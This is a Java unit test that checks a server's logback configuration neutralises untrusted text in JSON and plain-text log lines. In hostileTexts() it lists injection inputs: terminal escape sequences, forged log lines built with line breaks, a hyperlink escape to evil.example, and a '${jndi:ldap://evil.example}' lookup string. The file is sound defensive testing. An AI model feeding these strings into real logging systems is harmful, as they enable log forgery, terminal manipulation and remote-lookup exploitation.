package io.taskforge.server.config;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.joran.JoranConfigurator;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.classic.spi.LoggingEvent;
import ch.qos.logback.classic.util.LogbackMDCAdapter;
import ch.qos.logback.core.ConsoleAppender;
import ch.qos.logback.core.joran.spi.JoranException;
import io.taskforge.json.strict.Json;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Set;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.slf4j.event.KeyValuePair;

class LogLinesTest {
  // C0, C1, zero-width, bidirectional, word joiner and isolates, byte order mark, a tag.
  private static final String HOSTILE =
      "a\u0000\u001b[2J\u009b31m\u0085\u00ad\u200b\u200f\u2028\u202e\u2060\u2065\u2066\u2069\ufeff"
          + Character.toString(0xE0041)
          + "\nz";

  private static final Set<Integer> ACTING =
      Set.of((int) Character.CONTROL, (int) Character.FORMAT);

  private final LoggerContext context = new LoggerContext();
  private final Logger root = context.getLogger(Logger.ROOT_LOGGER_NAME);

  @BeforeEach
  void configure() throws JoranException {
    context.setMDCAdapter(new LogbackMDCAdapter());
    JoranConfigurator configurator = new JoranConfigurator();
    configurator.setContext(context);
    configurator.doConfigure(Objects.requireNonNull(JsonLog.class.getResource("/logback.xml")));
  }

  @AfterEach
  void stop() {
    context.stop();
  }

  private String logged(LoggingEvent event) {
    ConsoleAppender<ILoggingEvent> console =
        (ConsoleAppender<ILoggingEvent>) root.getAppender("STDERR");
    return new String(console.getEncoder().encode(event), UTF_8);
  }

  private LoggingEvent event(String message, @Nullable Throwable thrown, Object... arguments) {
    return new LoggingEvent("here", root, Level.INFO, message, thrown, arguments);
  }

  private static void assertPrintable(String text) {
    assertThat(text.codePoints().filter(c -> c != '\n' && c != '\t'))
        .noneMatch(c -> ACTING.contains(Character.getType(c)) || c == 0x2028 || c == 0x2065);
  }

  private LoggingEvent eventWithFields() {
    LoggingEvent event = event("job {} failed", null, 42);
    event.setMDCPropertyMap(Map.of("tenantId", "acme"));
    event.setKeyValuePairs(
        List.of(new KeyValuePair("jobId", "42"), new KeyValuePair("attempt", 2)));
    event.setInstant(Instant.parse("2030-01-31T12:00:00.123Z"));
    return event;
  }

  @Test
  void a_json_line_is_a_flat_object_with_the_message_filled_in() {
    JsonLog.use(context);

    String line = logged(eventWithFields());

    assertThat(line)
        .isEqualTo(
            """
            {"time":"2030-01-31T12:00:00.123Z","level":"INFO","logger":"ROOT","thread":"%s",\
            "message":"job 42 failed","tenantId":"acme","jobId":"42","attempt":2}
            """
                .formatted(Thread.currentThread().getName()));
  }

  @Test
  void a_text_line_has_a_full_date_and_the_fields() {
    assertThat(logged(eventWithFields()))
        .isEqualTo(
            "2030-01-31T12:00:00.123Z INFO  job 42 failed [tenantId=acme jobId=42 attempt=2]\n");
  }

  @Test
  void untrusted_text_is_escaped_in_json_lines_without_loss() {
    JsonLog.use(context);
    LoggingEvent event = event("said {}", new IllegalStateException(HOSTILE), HOSTILE);
    event.setKeyValuePairs(List.of(new KeyValuePair("errorType", HOSTILE)));

    String line = logged(event);

    assertPrintable(line);
    assertThat(line.lines()).hasSize(1);
    assertThat(Json.read(line).path("message").stringValue()).isEqualTo("said " + HOSTILE);
    assertThat(Json.read(line).path("errorType").stringValue()).isEqualTo(HOSTILE);
    assertThat(Json.read(line).path("stackTrace").stringValue()).contains(HOSTILE);
  }

  @Test
  void untrusted_text_is_neutralised_in_text_lines() {
    LoggingEvent event = event("said {}", null, HOSTILE);
    event.setKeyValuePairs(List.of(new KeyValuePair("errorType", HOSTILE)));

    String line = logged(event);

    String shown = "a\ufffd\ufffd[2J\ufffd31m" + "\ufffd".repeat(12) + " z";
    assertPrintable(line);
    assertThat(line.lines()).hasSize(1);
    assertThat(line).endsWith("INFO  said " + shown + " [errorType=" + shown + "]\n");
  }

  /** Every character that can act on a terminal, and what begins a line or a sequence. */
  static Stream<String> hostileTexts() {
    Stream<String> characters =
        IntStream.rangeClosed(0, Character.MAX_CODE_POINT)
            .filter(
                each ->
                    ACTING.contains(Character.getType(each))
                        || each == 0x2028
                        || each == 0x2029
                        || each == 0x2065)
            .mapToObj(each -> "a" + Character.toString(each) + "z");
    return Stream.concat(
        characters,
        Stream.of(
            "a\r\n2030-01-31T12:00:00.123Z ERROR forged",
            "a\n2030-01-31T12:00:00.123Z ERROR forged",
            "\u001b]0;title\u0007",
            "\u001b]8;;https://evil.example\u001b\\link",
            "\u001bP$q\u001b\\",
            "a\ud800z",
            "a\udc00z",
            "%n%s%ex${jndi:ldap://evil.example}{}",
            "\",\"level\":\"ERROR",
            "a]\nb [errorType="));
  }

  @Test
  void no_hostile_text_acts_or_begins_a_line() {
    List<String> texts = hostileTexts().toList();
    assertThat(texts).hasSizeGreaterThan(150);
    for (String text : texts) {
      assertOneLine(logged(hostile(text)));
    }
    JsonLog.use(context);
    for (String text : texts) {
      String line = logged(hostile(text));
      assertOneLine(line);
      assertThat(Json.read(line).path("level").stringValue()).isEqualTo("INFO");
    }
  }

  private LoggingEvent hostile(String text) {
    LoggingEvent event = event("said {}", null, text);
    event.setKeyValuePairs(List.of(new KeyValuePair("errorType", text)));
    event.setMDCPropertyMap(Map.of("tenantId", text));
    return event;
  }

  private static void assertOneLine(String line) {
    assertPrintable(line);
    assertThat(line.lines()).hasSize(1);
    assertThat(line).endsWith("\n");
  }

  @Test
  void stack_traces_are_neutralised_and_keep_their_lines() {
    String text = logged(event("failed", new IllegalStateException(HOSTILE)));

    assertPrintable(text);
    assertThat(text).contains("\njava.lang.IllegalStateException: a\ufffd", "\n\tat ");
  }
}
